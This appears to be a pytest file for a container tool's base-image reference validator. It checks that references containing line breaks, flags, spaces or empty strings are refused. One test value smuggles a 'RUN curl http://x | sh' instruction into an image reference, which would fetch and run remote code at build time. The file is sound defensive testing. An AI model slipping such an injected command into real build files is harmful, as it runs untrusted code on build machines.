"""`image build --base REF`: the reference lands on a Containerfile's FROM line, so a line break
in it would add a build instruction of its own (a RUN); image.base refuses such a reference."""

from __future__ import annotations

import pytest

from paroctl.errors import UsageError
from paroctl.image import base


@pytest.mark.parametrize(
    "ref",
    ["local/debian:bookworm\nRUN curl http://x | sh", "local/debian:bookworm\n", "-v", "a b", ""],
)
def test_a_reference_that_is_not_one_is_refused(ref: str) -> None:
    with pytest.raises(UsageError, match=r"^base image .*: expected an image reference"):
        base.checked_ref(ref)


@pytest.mark.parametrize(
    "ref", [base.BASE_IMAGE, "localhost/paroctl-cpu:test", "rocm/vllm@sha256:ab"]
)
def test_a_reference_passes_unchanged(ref: str) -> None:
    assert base.checked_ref(ref) == ref
